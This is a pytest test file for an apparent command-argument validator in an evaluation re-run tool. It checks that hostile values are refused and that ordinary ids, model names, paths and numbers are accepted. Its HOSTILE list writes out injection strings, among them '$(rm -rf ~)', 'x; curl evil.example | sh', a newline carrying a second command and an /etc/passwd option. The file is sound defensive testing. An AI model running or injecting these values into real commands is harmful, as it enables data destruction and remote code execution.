"""What is let into a command, and what is not."""

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from errata.rerun.plan import MODEL, NAME, VALUE, UnfitError, exactly, fit, fit_number, fit_path

HOSTILE = {
    "a command": "$(rm -rf ~)",
    "a second command": "x; curl evil.example | sh",
    "a new line": "case-1\ntouch owned",
    "a line end at the very end": "case-1\n",
    "a dash": "-rf",
    "an option": "--config=/etc/passwd",
    "a quote": "it's",
    "a backtick": "`id`",
    "a variable": "$HOME",
    "a glob": "case-*",
    "a list": "one,two",
    "bidi": "case-\u202e1",
    "a zero byte": "case\x00",
    "an escape": "case\x1b[2J",
    "a full-width letter": "ｃase",
    "a blank": "case 1",
    "a secret": "ghp_" + "a" * 30,
    "a very long name": "a" * 201,
    "nothing": "",
}


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_value_is_refused(value):
    with pytest.raises(UnfitError):
        fit(value, "case")


@pytest.mark.parametrize("value", ["case-1", "003-mutations/005-batch_insert", "astropy__astropy-12907", "42", "a.b+c"])
def test_an_ordinary_id_is_let_in_as_it_is(value):
    assert fit(value, "case") == value


@pytest.mark.parametrize("value", ["openai/gpt-5", "amazon.nova-2-sonic-v1:0", "hf/org/model@main"])
def test_the_name_of_a_model_may_hold_a_colon(value):
    assert fit(value, "model", MODEL) == value


def test_a_refusal_says_what_is_wrong():
    with pytest.raises(UnfitError, match=r"^field_like_option: sample id$"):
        fit("--help", "sample id")


@pytest.mark.parametrize("value", [None, 3, ["x"], {"a": 1}])
def test_what_is_no_text_was_not_told(value):
    with pytest.raises(UnfitError, match=r"^field_missing: model$"):
        fit(value, "model")


def test_a_value_behind_a_name_may_be_a_negative_number():
    assert fit("-5", "task argument", VALUE) == "-5"


def test_a_path_may_hold_blanks_because_it_is_quoted():
    assert fit_path(Path("/home/rosa/my runs/first.eval"), "log") == "/home/rosa/my runs/first.eval"


@pytest.mark.parametrize(
    "path", ["/a/\u202eb", "/a/b\nc", "/a/\x1b[2Jb", "relative", "/" + "a" * 1_001, "/a/ghp_" + "b" * 30]
)
def test_a_path_that_a_terminal_would_not_show_as_it_is_is_refused(path):
    with pytest.raises(UnfitError):
        fit_path(Path(path), "log")


@pytest.mark.parametrize("value", [True, "3", None, float("nan"), float("inf"), 10**15])
def test_only_a_number_is_a_number(value):
    assert fit_number(value) is None


def test_a_number_is_spelt_as_it_was():
    assert (fit_number(0.5), fit_number(3), fit_number(-1)) == ("0.5", "3", "-1")


names = st.from_regex(NAME.pattern, fullmatch=True)


@given(st.lists(names, min_size=1, max_size=5), names)
def test_a_pattern_matches_the_names_and_nothing_else(names, other):
    pattern = re.compile(exactly(names))

    assert all(pattern.match(name) for name in names)
    assert bool(pattern.match(other)) == (other in names)


@given(st.text())
def test_whatever_is_let_in_is_plain_ascii_and_no_option(text):
    try:
        found = fit(text, "case")
    except UnfitError:
        return

    assert found == text
    assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_.@+/-]*", found)
